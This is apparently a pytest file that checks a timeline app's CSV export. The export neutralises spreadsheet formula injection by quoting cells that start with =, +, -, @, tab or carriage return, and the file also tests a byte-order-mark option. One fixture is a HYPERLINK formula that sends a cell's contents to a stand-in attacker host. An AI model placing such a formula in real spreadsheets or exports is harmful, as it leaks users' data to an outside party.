"""CSV cells a spreadsheet would run as formulas go out inert and come back as typed; `bom=1`
gives Excel on Windows the mark it needs to read UTF-8."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import make_event
from timeline.services.spreadsheet_cells import as_typed, inert

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _rows(client, url: str = "/api/events.csv") -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_goes_out_behind_a_quote(session, client, start):
    make_event(session, title="Title", summary=f"{start}1+1 is two")
    (row,) = _rows(client)
    assert row["summary"] == f"'{start}1+1 is two"


def test_a_hyperlink_formula_in_a_title_is_text_in_the_file(session, client):
    make_event(session, title=ATTACK)
    body = client.get("/api/events.csv").get_data(as_text=True)
    assert ",\"'=HYPERLINK(" in body
    assert ',"=HYPERLINK(' not in body and ",=HYPERLINK(" not in body


def test_ordinary_text_and_a_quote_before_plain_text_go_out_untouched(session, client):
    make_event(session, title="'Tis the season, 100% AI", summary="Plain")
    (row,) = _rows(client)
    assert row["title"] == "'Tis the season, 100% AI" and row["summary"] == "Plain"


@pytest.mark.parametrize(
    "text", ["=1", "'=1", "''=1", "'", "''", "'x", "-", "", "\t@", "a=b", "'\r\n", "x'=1"]
)
def test_every_text_comes_back_as_it_went_out(text):
    assert as_typed(inert(text)) == text


def test_bom_1_starts_the_file_with_a_byte_order_mark(session, client):
    make_event(session, title="Cristóbal Valenzuela speaks")
    plain = client.get("/api/events.csv").get_data()
    marked = client.get("/api/events.csv?bom=1").get_data()
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert marked == b"\xef\xbb\xbf" + plain


def test_a_bad_bom_is_named_with_the_other_bad_parameters(client):
    response = client.get("/api/events.csv?bom=yes&from=2024-13")
    assert response.status_code == 400
    assert set(response.get_json()["error"]["fields"]) == {"bom", "from"}


def test_the_api_reference_describes_bom_and_the_quote(client):
    html = client.get("/docs/api").get_data(as_text=True)
    assert "bom" in html and "OWASP" in html
    spec = client.get("/api/openapi.json").get_json()
    params = spec["paths"]["/api/events.csv"]["get"]["parameters"]
    assert "bom" in {p["name"] for p in params}
